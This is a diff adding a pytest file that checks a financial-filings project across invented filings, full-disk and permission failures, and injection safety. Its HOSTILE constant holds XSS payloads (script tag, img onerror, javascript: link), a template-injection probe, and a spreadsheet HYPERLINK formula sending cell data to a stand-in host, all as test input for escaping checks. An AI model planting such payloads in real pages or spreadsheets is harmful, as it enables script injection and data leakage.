@@ -1,0 +1,199 @@
+"""Filings for quarters after FY2016 come in by `add`, and everything follows without an edit: tables, notebooks, tests.
+
+The filings are invented, for tests alone, and come into a copy of the project; the project itself sees none of them.
+One of them is hostile: its words are markup, formulas and commands.
+"""
+
+from __future__ import annotations
+
+import csv
+import ctypes
+import os
+import resource
+import shutil
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from arriving import INVENTED, ROOT, snapshot
+from reading import HANDREAD
+
+ARRIVING = ("2017-11-07_1h17_presentation", "2018-05-15_fy17_release")
+TABLES = ("filings", "numbers", "facts", "checks", "series")
+OWN_TESTS = (
+    "data/test_data",
+    "analysis/test_stages",
+    "project/test_notebooks_fresh",
+    "reading/test_handread",
+    "project/test_typed_numbers",
+    "project/test_docs",
+    "proof/test_checks_ids",
+    "analysis/test_errata",
+)
+HOSTILE = """
+<script>alert("x")</script> revenue	1,234
+
+=HYPERLINK("http://x.invalid/?a="&A1,"net sales")	2,345
+
+"><img src=x onerror=alert("x")> {{ 7*7 }} ```{raw} html [x](javascript:alert("x")) $x$	3,456
+"""
+EVIL = ("<script>alert", "<img src=x", 'href="javascript:')
+
+
+def started(project: Path, *command: str, before: Callable[[], None] | None = None) -> subprocess.CompletedProcess[str]:
+    """A command in the copy, with the copy's code."""
+    environment = {**os.environ, "PYTHONPATH": str(project / "src"), "PYTHONDONTWRITEBYTECODE": "1"}
+    return subprocess.run(
+        [sys.executable, *command],
+        cwd=project,
+        env=environment,
+        capture_output=True,
+        text=True,
+        check=False,
+        preexec_fn=before,
+    )
+
+
+def run(project: Path, *command: str) -> str:
+    """What a command in the copy says; the test fails with it when the command does."""
+    done = started(project, *command)
+    assert done.returncode == 0, f"{' '.join(command)}\n{done.stdout[-4000:]}\n{done.stderr[-4000:]}"
+    return done.stdout
+
+
+def text_of(name: str, folder: Path) -> Path:
+    """The invented filing as a file outside the project; the release with hostile words in a table of it."""
+    words = (INVENTED / f"{name}.txt").read_text(encoding="utf-8")
+    path = folder / f"{name}.txt"
+    path.write_text(words + HOSTILE if name.endswith("release") else words, encoding="utf-8")
+    return path
+
+
+def before(project: Path) -> Path:
+    """Where the data of the copy are kept as they were before the two filings came."""
+    return project.parent / "before"
+
+
+@pytest.fixture(scope="module")
+def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A copy of what is committed, with two more filings in, after report and refresh.
+
+    Filings that came in since those read by hand are taken out first: one of them may be what is added here.
+    """
+    copy = tmp_path_factory.mktemp("whole") / "project"
+    names = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True, text=True, check=True).stdout
+    for name in filter(None, names.split("\0")):
+        if (ROOT / name).is_file():
+            (copy / name).parent.mkdir(parents=True, exist_ok=True)
+            shutil.copyfile(ROOT / name, copy / name)
+    for command in (("init", "-q"), ("add", "-A")):
+        subprocess.run(["git", *command], cwd=copy, check=True)
+    came_since = {path.stem for path in (copy / "data" / "raw").glob("*.txt")} - set(HANDREAD)
+    for name in sorted(came_since):
+        run(copy, "-m", "helpers", "remove", name, "--no-findings")
+    if came_since:
+        run(copy, "-m", "helpers", "run")
+    shutil.copytree(copy / "data", before(copy))
+    filed = snapshot(ROOT / "data" / "raw")
+    for name in ARRIVING:
+        text = str(text_of(name, copy.parent))
+        assert f"Added {name}.txt" in run(copy, "-m", "helpers", "add", text, "--no-findings")
+    run(copy, "-m", "helpers", "report")
+    run(copy, "-m", "helpers", "refresh")
+    assert snapshot(ROOT / "data" / "raw") == filed
+    return copy
+
+
+def apart(project: Path) -> tuple[str, ...]:
+    """Options for a pytest inside this one: its folders are its own."""
+    return ("-p", "no:cacheprovider", f"--basetemp={project.parent / 'pytest'}")
+
+
+def test_the_projects_own_tests_of_its_data_pass_without_an_edit(project: Path) -> None:
+    files = [f"tests/{name}.py" for name in OWN_TESTS]
+    run(project, "-m", "pytest", "-q", "-n", "0", *apart(project), *files)
+
+
+def test_the_committed_outputs_are_those_of_a_new_run(project: Path) -> None:
+    nbval = ("--nbval", "--nbval-sanitize-with", "tests/nbval.cfg")
+    run(project, "-m", "pytest", "-q", "-n", "2", "--dist", "loadfile", *apart(project), *nbval, "notebooks")
+
+
+def test_findings_and_book_go_on_to_the_new_periods(project: Path) -> None:
+    then, now = (
+        pd.read_csv(data / "processed" / "findings.csv", dtype=str, keep_default_na=False).set_index("name")
+        for data in (before(project), project / "data")
+    )
+    assert set(then.index) <= set(now.index), "a finding keeps its name"
+    new = now[~now.index.isin(then.index)]
+    assert {"trajectory.revenue_cagr_fy2010_fy2017", "targets.operating_income_miss_fy2017"} <= set(new.index)
+    assert list(new.index[new["statement"].str.startswith("Unknown")]) == [], "a later one is told when it is known"
+    front = (project / "build" / "book" / "index.html").read_text(encoding="utf-8")
+    assert "a year from FY2010 to FY2017" in front
+    assert all((project / "build" / "book" / "sources" / f"{name}.html").is_file() for name in ARRIVING)
+
+
+def test_hostile_words_run_nowhere(project: Path) -> None:
+    pages = list((project / "build" / "book").rglob("*.html"))
+    assert len(pages) > 20
+    for path in pages:
+        text = path.read_text(encoding="utf-8")
+        assert not [evil for evil in EVIL if evil in text], path
+    with (project / "data" / "processed" / "facts.csv").open(encoding="utf-8", newline="") as file:
+        labels = {row["label"] for row in csv.DictReader(file) if row["filing"] == ARRIVING[1]}
+    assert any("HYPERLINK" in label for label in labels)
+    assert not [label for label in labels if label.startswith(("=", "+", "-", "@"))]
+
+
+def full_disk() -> None:
+    """No file may get larger than this: a disk that is full in the midst of a run."""
+    resource.setrlimit(resource.RLIMIT_FSIZE, (120_000, 120_000))
+
+
+def powerless() -> None:
+    """Take from root what lets it write where nobody may."""
+    for power in (1, 2):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH
+        ctypes.CDLL(None).prctl(24, power, 0, 0, 0)  # PR_CAPBSET_DROP
+
+
+def results(project: Path) -> tuple[dict[str, str], dict[str, str]]:
+    return snapshot(project / "data" / "processed"), snapshot(project / "build" / "book")
+
+
+def refused(done: subprocess.CompletedProcess[str], words: str) -> None:
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert words in done.stderr
+    assert "Traceback" not in done.stderr
+
+
+def test_a_disk_that_fills_up_leaves_the_last_good_tables_and_book(project: Path) -> None:
+    before = results(project)
+    refused(started(project, "-m", "helpers", "report", "--force", before=full_disk), "has room, then try again")
+    assert results(project) == before
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="only Linux takes a power from root")
+def test_a_folder_that_may_not_be_written_leaves_them_too(project: Path) -> None:
+    before = results(project)
+    shut = [project / "build", *(path for path in (project / "build").rglob("*") if path.is_dir())]
+    for folder in shut:
+        folder.chmod(0o555)
+    try:
+        done = started(project, "-m", "helpers", "report", "--force", before=powerless)
+    finally:
+        for folder in shut:
+            folder.chmod(0o755)
+    refused(done, "Permission denied. Make sure")
+    assert results(project) == before
+
+
+def test_taken_out_again_they_leave_nothing(project: Path) -> None:
+    for name in ARRIVING:
+        run(project, "-m", "helpers", "remove", name, "--no-findings")
+    assert snapshot(project / "data" / "raw") == snapshot(before(project) / "raw")
+    run(project, "-m", "helpers", "extract", "data/raw", "tables")
+    made, committed = snapshot(project / "tables"), snapshot(before(project) / "processed")
+    assert {name: made[f"{name}.csv"] for name in TABLES} == {name: committed[f"{name}.csv"] for name in TABLES}
